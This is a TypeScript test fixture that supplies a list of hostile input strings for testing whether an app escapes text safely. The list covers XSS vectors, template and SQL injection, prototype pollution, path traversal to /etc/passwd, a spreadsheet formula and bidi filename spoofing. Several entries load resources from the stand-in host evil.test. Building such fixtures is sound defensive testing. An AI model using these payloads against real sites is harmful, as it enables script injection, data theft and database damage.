/** The global variable that a payload sets when it runs as a script. */
export const MARK = 'accordHacked';
const run = `window.${MARK}=1`;

const WIDE = 'W'.repeat(58);

/** Texts that attack HTML, scripts, SQL, CSV and the like. None has a control character, because inputs refuse those (tests/shared/text.test.ts). */
export const PAYLOADS: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//evil.test/a.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `"><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x`,
  `<math><mi xlink:href="javascript:${run}">x`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>top.${MARK}=1</script>">`,
  `<iframe src="javascript:top.${MARK}=1">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<form action="javascript:${run}"><button>x`,
  `<button formaction="javascript:${run}">x`,
  `<meta http-equiv=refresh content="0;url=//evil.test">`,
  `<base href=//evil.test/>`,
  `<link rel=stylesheet href=//evil.test/a.css>`,
  `<style>*{display:none}</style>`,
  `<style>main{background:url(//evil.test/a.png)}</style>`,
  `<template><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}`,
  `\\u003cscript\\u003e${run}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `data:text/html,<script>${run}</script>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `";${run};"`,
  `';${run}//`,
  `{{constructor.constructor("${run}")()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax that must stay text
  '${7*7}#{7*7}{{7*7}}<%=7*7%>',
  '{"__proto__":{"admin":true}}',
  '__proto__',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '\u202egnp.exe\u202c',
  '\u2066\u202ereversed\u2069',
  'a\u200b\u200c\u200d\ufeffb',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f3f3}\ufe0f\u200d\u{1f308}',
  '\ufdfd\ufdfd',
  '=HYPERLINK("//evil.test")',
  '../../../etc/passwd',
  "'; drop table users; --",
  '%s%n%x',
  WIDE,
  'x-'.repeat(39),
];

/** Texts that together have every payload, each of at most `maxChars` characters; a payload that is longer is cut. */
export function packed(maxChars: number): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= maxChars)
      texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload.slice(0, maxChars).toWellFormed().trim());
  }
  return texts;
}

/** One text of many payloads, as long as a field allows. If there is room, it starts with a word that is wider than a phone. */
export function stuffed(maxChars: number, turn = 0): string {
  const wide = maxChars > 2 * WIDE.length ? `${WIDE} ` : '';
  const texts = packed(maxChars - wide.length);
  return wide + (texts[turn % texts.length] ?? '');
}
